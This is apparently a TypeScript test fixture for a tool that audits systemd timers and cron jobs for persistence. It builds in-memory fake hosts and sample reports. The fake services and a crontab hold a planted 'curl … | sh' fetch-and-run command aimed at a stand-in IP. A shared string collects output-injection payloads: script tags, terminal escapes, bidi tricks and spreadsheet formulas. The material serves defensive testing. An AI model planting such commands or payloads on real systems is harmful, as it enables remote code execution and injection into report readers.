/** Reports for tests, made by the whole pipeline from small hosts in memory. */
import { memoryHost } from "../hosts/memory.ts";
import { readInventory } from "../inventory/inventory.ts";
import { ACCOUNTS, shipped, timed } from "../rules/example-host.ts";
import { judge } from "../rules/judge.ts";
import type { Tree } from "../rules/rule.ts";
import { UTC_ONLY } from "../time/zone.ts";
import { auditReport, listReport } from "./build.ts";
import type { AuditReport, ListReport } from "./envelope.ts";

const NOW_USEC = Date.UTC(2026, 10, 23, 6, 0, 0) * 1000;

/** What each format's readers might take for more than text. All of it is inert. */
export const HOSTILE =
  "\x1b[2J\x9b31m\u202egnp\u2066 <script>alert(1)</script> <img src=x onerror=a> ]]> --> &lt; [x](http://192.0.2.1/) ![i](http://192.0.2.1/) `a``b` | \\| @admin #1 {0} %0A::error::x %25 \u2028\u200b\u{e0041} 漢字 \"q\" 'q'";

const FORMULA = "=1+cmd()";

const BASE: Tree = {
  "/etc/os-release": "PRETTY_NAME=Example Linux 1\n",
  "/etc/hostname": "web-03\n",
  "/etc/machine-id": "0123456789abcdef0123456789abcdef\n",
  "/usr/lib/systemd/systemd": "",
  "/usr/lib/systemd/system/timers.target": "[Unit]\nDescription=Timers\n",
  ...ACCOUNTS,
};

const SHELL = "/bin/sh -c 'curl -s http://192.0.2.7/x | sh'";

const HOSTS: Readonly<Record<string, Tree>> = {
  clean: shipped("job", "ExecStart=/usr/bin/true"),
  "no timers": {},
  attacked: timed(`ExecStart=${SHELL}`, { "/dev/shm/.x": { content: "x", mode: 0o755 } }),
  "many findings": Object.assign(
    {},
    ...Array.from({ length: 120 }, (_, at) => ({
      [`/etc/systemd/system/m${at}.timer`]: "[Timer]\nOnCalendar=hourly\n",
      [`/etc/systemd/system/m${at}.service`]: `[Service]\nExecStart=${SHELL}\n`,
    })),
  ),
  "a user's": {
    "/home/alice/.config/systemd/user/sync.timer": "[Timer]\nOnBootSec=5min\nPersistent=yes\n",
    "/home/alice/.config/systemd/user/sync.service": `[Service]\nExecStart=${SHELL}\n`,
  },
  gaps: {
    ...timed("ExecStart=/opt/run.sh"),
    "/opt/run.sh": { content: "", mode: 0o755, error: "EACCES" },
    "/etc/systemd/system/locked.timer": { content: "", error: "EACCES" },
  },
  jobs: {
    ...timed("ExecStart=/usr/bin/true"),
    "/etc/crontab": `17 * * * * root ${SHELL.slice(8, -1).replaceAll("'", "")}\n`,
    "/usr/lib/systemd/system/cron.service": "[Service]\nExecStart=/usr/sbin/cron -f\n",
  },
  hostile: {
    ...timed(
      `ExecStart=/bin/sh -c "curl -s http://192.0.2.7/x | sh; echo ${HOSTILE.replace(/["'%`\\$]/g, "_")}"`,
    ),
    "/etc/hostname": "=web|<b>\n",
    "/etc/os-release": `PRETTY_NAME="=HYPERLINK() ${HOSTILE.replace(/["\\`$]/g, "_")}"\n`,
    "/etc/systemd/system/job.timer": `[Unit]\nDescription=${FORMULA} ${HOSTILE}\n[Timer]\nOnCalendar=daily\n`,
    "/etc/systemd/system/-evil.timer": `[Unit]\nDescription=${FORMULA}\n[Timer]\nOnCalendar=daily\n`,
    "/etc/systemd/system/-evil.service": `[Service]\nExecStart=${SHELL}\n`,
    "/etc/systemd/system/job.timer.d/\udc80|<b>`.conf": `[Timer]\nOnCalendar=hourly\n`,
    "/etc/systemd/system/job.service.d/a\nb.conf": `[Service]\nEnvironment="X=${HOSTILE.replace(/["\\]/g, "_")}"\n`,
  },
};

function inventoryOf(name: string) {
  const host = memoryHost({ ...BASE, ...HOSTS[name] }, { target: `memory:${name}` });
  return readInventory(host, { zones: UTC_ONLY, nowUsec: NOW_USEC });
}

/** Every sentence and fact that text of the target may stand in is made hostile, whatever the rules choose to say. */
function soaked(report: AuditReport): AuditReport {
  const hostile = `${FORMULA}\n${HOSTILE}\udc80\0`;
  return {
    ...report,
    coverage: {
      ...report.coverage,
      gaps: [{ path: `/=${hostile}`, reason: hostile, hides: hostile }],
      notes: [hostile],
    },
    findings: report.findings.map((finding) => ({
      ...finding,
      title: hostile,
      says: hostile,
      clears: hostile,
      evidence: finding.evidence.map((place) => ({
        ...place,
        path: `/etc/${hostile}`,
        excerpt: hostile,
        says: hostile,
      })),
    })),
    timers: report.timers.map((row) => ({ ...row, description: hostile, command: hostile, runsAs: hostile })),
  };
}

function audits(): readonly (readonly [string, AuditReport])[] {
  const reports = Object.keys(HOSTS).map((name): [string, AuditReport] => {
    const inventory = inventoryOf(name);
    return [name, auditReport(inventory, judge(inventory))];
  });
  const inventory = inventoryOf("attacked");
  const accept = () => ({ reason: `mine; ${HOSTILE}`, owner: "bob", until: "2027-02-28" });
  const hostile = reports.find(([name]) => name === "hostile")?.[1];
  if (hostile === undefined) throw new Error("no hostile report");
  return [
    ...reports,
    ["accepted", auditReport(inventory, judge(inventory, { accept }))],
    ["soaked", soaked(hostile)],
  ];
}

export const AUDITS: readonly (readonly [name: string, report: AuditReport])[] = audits();

export const LISTS: readonly (readonly [name: string, report: ListReport])[] = Object.keys(HOSTS).map(
  (name): [string, ListReport] => [name, listReport(inventoryOf(name))],
);

export function auditOf(name: string): AuditReport {
  const found = AUDITS.find(([own]) => own === name)?.[1];
  if (found === undefined) throw new Error(`no sample report ${name}`);
  return found;
}
